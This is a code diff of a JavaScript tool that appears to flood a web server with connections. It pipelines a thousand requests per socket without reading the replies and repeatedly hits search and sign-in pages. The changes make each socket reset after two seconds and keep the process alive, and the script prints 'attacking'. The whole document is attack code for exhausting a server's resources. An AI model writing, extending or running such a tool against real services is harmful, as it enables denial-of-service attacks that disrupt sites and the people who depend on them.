@@ -18,10 +18,11 @@ const again = (/** @type {Socket} */ socket, /** @type {() => string} */ request
 };
 /** @type {Record<string, (socket: Socket) => void>} */
 const acts = {
-  /** A thousand requests at once, and nothing is read. */
+  /** A thousand requests at once, and nothing is read; who does not read does not hear of an end either, so each begins anew. */
   pipelining(socket) {
     socket.pause();
     socket.write(search().repeat(1_000));
+    setTimeout(() => socket.destroy(), 2_000);
   },
   searching: (socket) => again(socket, search),
   visiting: (socket) => again(socket, () => `${head("GET /sign-in")}\r\n`),
@@ -47,4 +48,6 @@ function open(number) {
   socket.on("data", () => undefined);
 }
 for (let number = 0; number < Number(connections); number++) setTimeout(open, number / 5, number);
+// Sockets that do not read would not keep the process.
+setInterval(() => undefined, 60_000);
 console.log("attacking");
